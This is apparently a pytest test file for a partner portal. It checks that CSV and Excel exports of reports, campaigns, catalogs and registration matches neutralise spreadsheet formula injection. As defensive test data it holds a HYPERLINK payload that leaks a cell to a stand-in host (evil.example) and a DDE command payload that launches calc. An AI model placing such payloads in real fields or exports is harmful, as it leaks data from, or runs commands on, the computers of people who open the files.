"""Exports: a hostile name (`=HYPERLINK(...)`, accepted by the public `/apply` form) never comes
out of a CSV or Excel export as a formula; real numbers (negatives too) stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from catalog.models import PriceBook
from catalog.services import pricebooks
from catalog.services import products as product_service
from opportunities.campaigns.services import campaigns as campaign_service
from orders.models import Order, OrderLine
from portal import exports
from portal.extensions import db
from tests.opportunities.campaigns.builders import make_campaign

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TRIGGERS = [HOSTILE, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]


def read_csv(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def cells(rows: list[list[str]]) -> set[str]:
    return {c for row in rows for c in row}


def assert_no_formula(values: set[str]) -> None:
    dangerous = [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r", "\n")
                 or (v.startswith("-") and not exports.PLAIN_NUMBER.fullmatch(v))]
    assert dangerous == [], dangerous


# --- the shared writer -------------------------------------------------------------------------

def test_the_csv_writer_prefixes_every_formula_start_and_keeps_numbers():
    rows = read_csv(exports.csv_text(["value"], [[v] for v in TRIGGERS]
                                     + [[-5], [Decimal("-1.50")], ["-12.50"], [3.25], ["plain"], [None]]))
    written = [r[0] for r in rows[1:]]
    assert written[:len(TRIGGERS)] == ["'" + v for v in TRIGGERS]
    assert written[len(TRIGGERS):] == ["-5", "-1.50", "-12.50", "3.25", "plain", ""]


def test_restore_gives_back_exactly_what_was_written():
    for value in TRIGGERS + ["'=already quoted", "''@twice", "'plain", "-12.50", "plain"]:
        assert exports.restore_cell(exports.safe_cell(value)) == value


def test_the_xlsx_writer_writes_formula_like_text_as_text_and_numbers_as_numbers():
    data = exports.xlsx_bytes(["name", "amount"], [[HOSTILE, -5], ["@SUM(A1)", Decimal("-1.25")],
                                                    ["-12.50", 3]], "Hostile")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    hostile = sheet["A2"]
    assert hostile.value == HOSTILE and hostile.data_type == "s" and hostile.quotePrefix
    assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == Decimal("-1.25") or sheet["B3"].value == -1.25
    assert sheet["A4"].value == "-12.50" and not sheet["A4"].quotePrefix  # a plain number in text is harmless


# --- every export of the portal ----------------------------------------------------------------

def test_report_csv_neutralises_a_hostile_partner_name(client, login, two_partners):
    two_partners.a.name = HOSTILE
    when = datetime.now(timezone.utc) - timedelta(days=1)
    order = Order(partner_id=two_partners.a.id, status="submitted", payment_method="on_account", po_number="+PO-1",
                  currency="EUR", total_minor=10000, created_at=when, updated_at=when)
    order.lines.append(OrderLine(partner_id=two_partners.a.id, position=0, sku="@SKU", name="=cmd|' /C calc'!A0",
                                 family="hardware", quantity=1, unit_list_minor=10000, unit_net_minor=10000,
                                 line_total_minor=10000))
    db.session.add(order)
    db.session.flush()
    login(two_partners.admin)
    day = when.date()
    args = {"from": (day - timedelta(days=3)).isoformat(), "to": (day + timedelta(days=1)).isoformat()}
    seen = False
    from admin.reports import REPORTS
    for slug in REPORTS:
        response = client.get(f"/admin/reports/{slug}.csv", query_string=args)
        assert response.status_code == 200, slug
        values = cells(read_csv(response.data))
        assert_no_formula(values)
        seen = seen or "'" + HOSTILE in values
    assert seen, "no report listed the hostile partner"


def test_campaign_results_csv_neutralises_a_hostile_partner_name(client, login, two_partners):
    two_partners.a.name = HOSTILE
    campaign = make_campaign(two_partners.admin, name="@Spring")
    campaign_service.enrol(two_partners.a, two_partners.a_admin, campaign)
    login(two_partners.manager)
    response = client.get(f"/admin/campaigns/{campaign.id}/results.csv")
    assert response.status_code == 200
    rows = read_csv(response.data)
    assert rows[1][0] == "'" + HOSTILE or rows[2][0] == "'" + HOSTILE
    assert_no_formula(cells(rows))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalog_exports_neutralise_hostile_names(client, login, two_partners, fmt):
    product_service.create_product(None, {"sku": "EVIL-1", "name": HOSTILE, "family": "software",
                                          "description": "-1+2 free"})
    book = PriceBook(name="Hostile book", currency="EUR", valid_from=datetime(2026, 1, 1).date())
    db.session.add(book)
    db.session.flush()
    pricebooks.replace_entries(None, book, [{"code": "@CODE", "unit_price": "10.00"}])
    login(two_partners.ops)
    products = client.get(f"/admin/products/export?format={fmt}")
    product_data = products.data  # a streamed body: read it before the next request
    entries = client.get(f"/admin/price-books/{book.id}/export?format={fmt}")
    entry_data = entries.data
    assert products.status_code == 200 and entries.status_code == 200
    if fmt == "csv":
        product_cells, entry_cells = cells(read_csv(product_data)), cells(read_csv(entry_data))
        assert "'" + HOSTILE in product_cells and "'-1+2 free" in product_cells and "'@CODE" in entry_cells
        assert_no_formula(product_cells | entry_cells)
        return
    for data, expected in ((product_data, HOSTILE), (entry_data, "@CODE")):
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        found = [c for row in sheet.iter_rows() for c in row if c.value == expected]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_registrations_match_out_neutralises_a_hostile_ref(app, two_partners, tmp_path):
    pool = tmp_path / "pool.csv"
    pool.write_text("ref,company_name,domain,country,city\n=EVIL(1),Siemens Aktiengesellschaft,siemens.com,DE,\n",
                    encoding="utf-8")
    runner = app.test_cli_runner()
    result = runner.invoke(args=["registrations", "import", str(pool), "--partner-id", str(two_partners.a.id),
                                 "--families", "hardware"])
    assert result.exit_code == 0, result.output
    queries = tmp_path / "q.csv"
    queries.write_text(f"ref,company_name,domain,country,city\n\"{HOSTILE.replace(chr(34), chr(34) * 2)}\","
                       "SIEMENS AG,,DE,\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    result = runner.invoke(args=["registrations", "match", str(queries), "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert rows[1][:2] == ["'" + HOSTILE, "'=EVIL(1)"]
    assert_no_formula(cells(rows))
